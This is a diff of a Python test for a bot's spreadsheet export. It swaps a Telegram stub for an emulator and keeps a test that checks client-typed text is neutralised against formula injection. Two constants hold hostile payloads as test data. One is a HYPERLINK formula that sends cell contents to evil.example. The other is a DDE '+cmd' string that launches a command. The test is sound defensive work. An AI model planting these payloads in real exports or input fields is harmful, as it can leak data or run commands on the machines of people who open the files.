@@ -6,14 +6,14 @@ from datetime import timedelta
 
 from database.engine import commit
 from database.models import Booking, Feedback, User, utcnow
+from emulator import BotApiEmulator
 from tests.handlers.conftest import FIRST_SPECIALIST, OWNER, Chat
-from tests.telegram_stub import TelegramStub
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 COMMAND = "+cmd|' /C calc'!A0"
 
 
-async def test_export_neutralises_formulas_in_what_clients_typed(chat: Chat, stub: TelegramStub) -> None:
+async def test_export_neutralises_formulas_in_what_clients_typed(chat: Chat, stub: BotApiEmulator) -> None:
     async with chat.sessionmaker() as session:
         session.add(User(id=9100, first_name=HYPERLINK, username="@evil"))
         session.add(User(id=9101, first_name="-Anna", last_name="Smith"))
